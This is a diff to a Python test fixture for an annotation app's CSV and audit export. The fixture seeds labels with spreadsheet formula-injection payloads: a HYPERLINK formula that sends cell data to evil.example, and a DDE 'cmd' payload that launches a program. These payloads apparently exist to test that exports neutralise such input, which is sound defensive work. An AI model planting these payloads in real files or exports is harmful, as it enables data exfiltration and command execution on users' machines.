@@ -14,6 +14,7 @@ from annotate_app.analytics.leaderboard import LeaderboardConfig, leaderboard
 from annotate_app.export.audit import audit_log_bytes, export_audit_log
 from annotate_app.export.files import FORMULA_STARTS, csv_bytes
 from annotate_app.ingest import import_file
+from tests.seed import human_answer, human_labels
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CALC = "+cmd|' /C calc'!A0"
@@ -39,9 +40,12 @@ def hostile_project(store, tmp_path):
     path = tmp_path / "hostile.jsonl"
     path.write_text("".join(json.dumps(r) + "\n" for r in pairs), encoding="utf-8")
     import_file(store, path)
+    answers = []
     for k, pair_id in enumerate(store.pairs_frame()["pair_id"]):
-        store.add_label(pair_id, CALC, choice=1 if k % 2 else -1, rationale=HYPERLINK)
-        store.add_label(pair_id, "carol", choice=2, rationale="\rCR first" if k % 2 else "\tTAB")
+        answers.append(human_answer(pair_id, CALC, 1 if k % 2 else -1, rationale=HYPERLINK))
+        rationale = "\rCR first" if k % 2 else "\tTAB"
+        answers.append(human_answer(pair_id, "carol", 2, rationale=rationale))
+    human_labels(store, answers)
     return store
 
 
